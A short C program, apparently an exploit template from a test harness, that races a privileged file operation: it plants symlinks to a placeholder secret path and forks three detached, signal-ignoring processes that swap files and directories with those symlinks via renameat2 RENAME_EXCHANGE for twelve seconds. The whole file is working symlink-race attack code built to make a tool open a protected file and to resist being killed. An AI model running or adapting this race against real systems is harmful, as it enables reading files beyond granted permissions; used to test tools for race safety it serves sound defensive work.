// renameat2(RENAME_EXCHANGE) flips both in one step, some hundred thousand times a second, between the look and the opening.
#define _GNU_SOURCE
#include <fcntl.h>
#include <libgen.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

int main(void) {
    prctl(PR_SET_NAME, "@@MARK@@");
    char path[] = "@@SECRET_PATH@@";
    mkdir("out", 0755);
    mkdir("out/d", 0755);
    close(open("out/file", O_CREAT | O_WRONLY, 0644));
    close(open("out/d/secret", O_CREAT | O_WRONLY, 0644));
    if (symlink(path, "link") != 0) return 1;
    if (symlink(dirname(path), "dirlink") != 0) return 1;
    for (int i = 0; i < 3; i++) {
        if (fork() != 0) continue;
        setsid();
        for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
        time_t end = time(NULL) + 12;
        while (time(NULL) < end)
            for (int k = 0; k < 1000; k++) {
                renameat2(AT_FDCWD, "out/file", AT_FDCWD, "link", RENAME_EXCHANGE);
                if (i == 1) renameat2(AT_FDCWD, "out/d", AT_FDCWD, "dirlink", RENAME_EXCHANGE);
            }
        _exit(0);
    }
    printf("exchanging\n");
    fflush(stdout);
    usleep(50000);
    _exit(0);
}
